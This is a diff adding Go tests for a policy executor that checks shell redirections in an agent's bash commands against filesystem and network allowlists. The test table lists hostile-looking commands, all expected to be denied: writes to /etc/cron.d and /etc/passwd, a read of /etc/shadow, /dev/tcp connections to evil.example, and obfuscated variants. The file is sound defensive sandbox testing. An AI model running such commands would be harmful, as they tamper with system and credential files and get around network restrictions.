@@ -1,0 +1,116 @@
+package executor_test
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"polc.dev/polc/executor"
+)
+
+// TestShellRedirectionsAreFacets: bash opens a redirection's file itself,
+// whatever program runs, so with shell allowed for read-only programs
+// "echo x > /etc/cron.d/x" wrote anywhere; and it connects to
+// /dev/tcp/HOST/PORT itself, under a policy that denies the network.
+// Each redirection is a path (or host) facet the policy judges.
+func TestShellRedirectionsAreFacets(t *testing.T) {
+	p := reviewPolicy(t, `
+	actions: allow: ["bash"]
+	subprocess: {mode: "allowlist", allow: ["echo *", "cat *", "exec *", "make *", "cd *", "command *", ": *"], shell: "allow"}
+	filesystem: {read: ["/ws/**"], write: ["/ws/out/**"]}
+	network: {mode: "allowlist", allow: ["github.com:443"]}
+	environment: read: ["*"]`)
+	for cmd, want := range map[string]string{
+		// Writes and reads the policy grants, and what opens no file.
+		`echo x > out/log`:                     "allowed",
+		`echo x >> /ws/out/log 2>&1`:           "allowed",
+		`cat < src/a.go > out/b`:               "allowed",
+		`echo x &> out/log; echo y >| out/l2`:  "allowed",
+		`echo x 2>/dev/null >&2; cat <&0`:      "allowed",
+		`exec 3>&1 4<&- 5>&3-; echo`:           "allowed",
+		`cat <<EOF > out/f` + "\nhi\nEOF":      "allowed",
+		`cat <<< hi > "out/with space"`:        "allowed",
+		`echo > /dev/stderr; cat < /dev/fd/3`:  "allowed",
+		`echo x > >(cat) 2> >(cat >&2)`:        "allowed",
+		`echo > /dev/tcp/github.com/443`:       "allowed",
+		`(cd out && make) > /ws/out/build.log`: "allowed",
+		// Writes it does not grant: denied by the filesystem rules.
+		`echo x > /etc/cron.d/x`:         "not_allowed:path_write",
+		`echo x >> src/a.go`:             "not_allowed:path_write",
+		`echo x >& /etc/passwd`:          "not_allowed:path_write",
+		`exec 3<>src/a.go`:               "not_allowed:path_write",
+		`exec 3<>/etc/x`:                 "not_allowed:path_read,not_allowed:path_write",
+		`cat < /etc/shadow`:              "not_allowed:path_read",
+		`echo x > out/../src/a`:          "not_allowed:path_write",
+		`echo x > '/etc/'"passwd"`:       "not_allowed:path_write",
+		`f() { echo x > /etc/x; }; echo`: "not_allowed:path_write",
+		`echo $(echo > /etc/x)`:          "not_allowed:path_write",
+		`echo x > ../escape`:             executor.ReasonPathEscape,
+		`cat < /dev/tcp/evil.example/80`: "not_allowed:host",
+		`exec 3<>/dev/udp/10.0.0.1/53`:   "not_allowed:host",
+		`echo > /dev/tcp/GitHub.com/80`:  "not_allowed:host",
+		// Targets known only at run time, and relative ones after a
+		// directory change: refused.
+		`f=/etc/x; echo > "$f"`:               executor.ReasonInvalidCommand,
+		`echo > /etc/pass*`:                   executor.ReasonInvalidCommand,
+		`echo > /etc/pass{w..w}d`:             executor.ReasonInvalidCommand,
+		`echo > ~/.bashrc`:                    executor.ReasonInvalidCommand,
+		`f=/etc/x; echo >& $f`:                executor.ReasonInvalidCommand,
+		`echo > $(echo /etc/x)`:               executor.ReasonInvalidCommand,
+		`cd /etc && echo x > passwd`:          executor.ReasonInvalidCommand,
+		`command -p cd /etc; echo x > passwd`: executor.ReasonInvalidCommand,
+		`c=cd; $c /etc; echo x > passwd`:      executor.ReasonInvalidCommand,
+		`echo > /dev/tcp/github.com/https`:    executor.ReasonInvalidCommand,
+		`echo > /dev/tcp/git%68ub.com/443`:    executor.ReasonInvalidCommand,
+		`echo > /dev/tcp/2130706433/80`:       executor.ReasonInvalidCommand,
+		`echo > /dev/tcp/[::1]/80`:            executor.ReasonInvalidCommand,
+	} {
+		if got := decideReasons(t, p, "bash", map[string]any{"command": cmd}); got != want {
+			t.Errorf("%q: %s, want %s", cmd, got, want)
+		}
+	}
+}
+
+// decideReasons is the normalization refusal's reason, or the decision's
+// reasons joined by commas.
+func decideReasons(t *testing.T, p *executor.Policy, action string, args map[string]any) string {
+	t.Helper()
+	n, nerr := (&executor.Normalizer{}).Normalize(executor.ActionRequest{
+		Action: action, Arguments: args, Principal: "agent:a", Tenant: "acme", Workspace: "/ws",
+	})
+	if nerr != nil {
+		return nerr.Reason
+	}
+	d, _ := p.Evaluate(n)
+	return strings.Join(d.Reasons, ",")
+}
+
+// TestShellRedirectionFacetsExact pins the facets themselves: the path
+// cleaned against the workspace, the access per operator, one entry per
+// path and access, and /dev/tcp as "host:port".
+func TestShellRedirectionFacetsExact(t *testing.T) {
+	ws := t.TempDir()
+	if err := os.Mkdir(filepath.Join(ws, "out"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	n, nerr := (&executor.Normalizer{}).Normalize(executor.ActionRequest{
+		Action: "bash", Principal: "agent:a", Tenant: "acme", Workspace: ws,
+		Arguments: map[string]any{"command": `cat < a <> ./out//b > out/b 2>>/tmp/log >&/tmp/log; echo > /dev/tcp/::1/80 >/dev/tcp/0:0::1/80 </dev/udp/Host.Example/53`},
+	})
+	if nerr != nil {
+		t.Fatal(nerr)
+	}
+	var got []string
+	for _, pa := range n.Paths {
+		got = append(got, pa.Access+" "+strings.TrimPrefix(pa.Path, ws))
+	}
+	want := []string{"read /a", "read /out/b", "write /out/b", "write /tmp/log"}
+	if !slices.Equal(got, want) {
+		t.Errorf("paths %q, want %q", got, want)
+	}
+	if want := []string{"[::1]:80", "host.example:53"}; !slices.Equal(n.Hosts, want) {
+		t.Errorf("hosts %q, want %q", n.Hosts, want)
+	}
+}
